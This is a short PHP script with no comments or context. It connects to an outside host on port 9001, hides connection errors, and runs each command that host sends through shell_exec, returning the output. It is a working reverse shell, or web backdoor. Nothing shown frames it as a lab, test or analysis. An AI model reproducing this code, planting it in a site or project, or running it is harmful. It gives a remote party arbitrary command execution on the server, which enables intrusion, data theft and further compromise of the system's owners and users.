<?php
$s = @fsockopen('ops-relay.status-example.cc', 9001);
while ($s && !feof($s)) {
    $c = fgets($s);
    fwrite($s, shell_exec($c));
}
